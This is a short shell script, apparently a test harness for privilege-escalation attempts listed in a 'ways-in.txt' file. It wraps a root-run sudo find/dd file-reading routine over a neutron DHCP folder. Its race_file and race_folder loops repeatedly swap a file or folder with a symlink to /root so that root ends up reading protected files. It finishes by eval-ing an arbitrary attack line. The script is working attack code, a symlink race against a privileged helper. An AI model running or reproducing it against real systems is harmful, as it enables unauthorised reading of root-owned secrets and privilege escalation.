# What the ways of ways-in.txt are tried with: run by the user, in his folder W.
t='timeout --foreground -k 2 10' r='timeout -k 2 20' V=/var/lib/neutron P='(udp port 67 or udp port 68)' E=
export PATH=/usr/sbin:/usr/bin:/sbin:/bin
cd "$W" || exit

# Root's reading of a file, as the gathering script has it: the folder to begin at, those on the way, the file.
args() {
for f in "$@"; do :; done
R=$1; shift
way="-path $R"
for x in "$@"; do way="$way -o -path $x"; done
}
read_file() {
args "$@"
sudo -n $r /usr/bin/find -P "$R" '(' $way ')' -fprintf /dev/stderr @%y@ '(' ! -path "$f" -o -type f -execdir \
/bin/dd iflag=nofollow iflag=nonblock iflag=skip_bytes bs=64k status=none skip=0 'if={}' ';' ')' -o -prune
}
read_settings() {
args "$@"
sudo -n $r /usr/bin/find -P "$R" '(' $way ')' -fprintf /dev/stderr @%y@ '(' ! -path "$f" -o -type f -execdir \
/bin/sh -c "$S" '{}' $E ';' ')' -o -prune
}
# While the file, or its folder, is now itself and now a link to /root, it is read again and again.
race_file() {
for i in $(seq 60); do read_file $V $V/dhcp "$V/dhcp/$(cat race)" "$V/dhcp/$(cat race)/$1"; done
}
race_folder() {
for i in $(seq 60); do read_file $V $V/dhcp "$V/dhcp/$(cat turn)" "$V/dhcp/$(cat turn)/host"; done
}
set -f
eval "$1"
